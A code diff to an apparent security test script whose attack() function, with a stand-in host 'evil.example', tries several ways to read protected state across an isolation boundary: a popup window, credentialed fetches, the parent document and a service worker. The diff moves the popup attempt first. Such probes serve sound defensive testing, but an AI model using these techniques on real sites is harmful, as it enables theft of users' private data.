@@ -15,6 +15,16 @@ const EVIL = 'http://evil.example';
 async function attack([tools, evil]) {
   const told = {};
   const tries = {
+    // First, while a click allows it.
+    'in a window of its own': async () => {
+      const opened = window.open(`${tools}/_relecture`, 'outils');
+      await new Promise((go) => { setTimeout(go, 1500); });
+      try {
+        return opened.document.body.innerText;
+      } finally {
+        opened?.close();
+      }
+    },
     'reads the state beside its page': async () => (await fetch('/_jalon/etat.json')).text(),
     'reads the state of the tools': async () => (await fetch(`${tools}/_jalon/etat.json`)).text(),
     'with its cookies': async () => (await fetch(`${tools}/_jalon/etat.json`, { credentials: 'include', cache: 'force-cache' })).text(),
@@ -50,15 +60,6 @@ async function attack([tools, evil]) {
     }),
     'around itself': async () => parent.document.body.outerHTML,
     'in the words of its parent': async () => JSON.stringify(parent.known()),
-    'in a window of its own': async () => {
-      const opened = window.open(`${tools}/_relecture`, 'outils');
-      await new Promise((go) => { setTimeout(go, 1500); });
-      try {
-        return opened.document.body.innerText;
-      } finally {
-        opened?.close();
-      }
-    },
     'by a worker': async () => {
       const worker = await navigator.serviceWorker.register('/_jalon/apercu.js', { scope: '/_jalon/' });
       return String(worker.scope);
